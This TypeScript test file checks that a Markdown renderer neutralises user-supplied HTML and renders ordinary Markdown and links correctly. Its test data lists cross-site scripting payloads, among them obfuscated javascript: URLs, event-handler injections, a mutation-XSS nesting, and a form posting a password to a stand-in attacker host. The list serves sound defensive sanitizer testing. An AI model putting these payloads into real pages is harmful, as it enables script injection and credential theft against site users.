import { describe, expect, it } from '@jest/globals';
import { JSDOM } from 'jsdom';
import { MarkdownRenderer } from './markdown-renderer.ts';

const { window } = new JSDOM('');
const renderer = new MarkdownRenderer(window);

function render(source: string): HTMLElement {
  const root = window.document.createElement('div');
  for (const fragment of renderer.render(source)) root.append(fragment);
  return root;
}

describe('what people write', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="https://attacker.example"><input name="password"><button>Go</button></form>',
    '<style>body{display:none}</style>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '[x](javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
    '![x](javascript:alert(1))',
    '<p style="position:fixed" class="btn-primary" id="content" data-x="1" aria-label="y">x</p>',
    '<base href="https://attacker.example/"><meta http-equiv="refresh" content="0">',
    '<object data="x"></object><embed src="x"><video src="x" onplay="x"></video>',
  ])('is inert: %s', (source) => {
    const root = render(`before\n\n${source}`);

    for (const element of root.querySelectorAll('*')) {
      expect(element.localName).toMatch(/^(p|a|img|table|tbody|tr|td)$/);
      for (const { name, value } of element.attributes) {
        expect(name).toMatch(/^(href|src|alt|rel|title|loading|referrerpolicy|tabindex)$/);
        expect(value).not.toMatch(/script:|data:/i);
      }
    }
    expect(root.textContent).toContain('before');
  });
});

describe('Markdown', () => {
  it('becomes elements', () => {
    const root = render('# T\n\n*a* **b** `c`\n\n- [x] d\n\n| e |\n|---|\n| f |\n\n```\ng\n```');

    expect([...root.children].map(({ localName }) => localName)).toEqual([
      ...['h1', 'p', 'ul', 'table', 'pre'],
    ]);
    expect(root.querySelector('li')?.textContent).toContain('☑ d');
    expect(root.querySelector('pre')?.getAttribute('tabindex')).toBe('0');
  });

  it.each(['https://example.com/', 'http://example.com/', '/article/x', '#part', 'mailto:a@b.c'])(
    'links to %s, for readers and not for search engines',
    (address) => {
      const link = render(`[x](${address})`).querySelector('a');

      expect(link?.getAttribute('href')).toBe(address);
      expect(link?.getAttribute('rel')).toContain('nofollow');
    },
  );

  it('is the same in one piece and in many', () => {
    const paragraph = `*A* paragraph with [a link][ref] in it.${' More words.'.repeat(40)}`;
    const source = `${paragraph}\n\n`.repeat(200);
    const pieces = [...renderer.render(`${source}[ref]: https://example.com/`)];

    expect(pieces.length).toBeGreaterThan(3);
    const paragraphs = pieces.flatMap((piece) => [...piece.querySelectorAll('p')]);
    expect(paragraphs).toHaveLength(200);
    expect(paragraphs.every((each) => each.querySelector('a'))).toBe(true);
  });

  it.each(['', '   ', '\n'])('of nothing (%j) is nothing', (source) => {
    expect(render(source).textContent?.trim()).toBe('');
  });
});
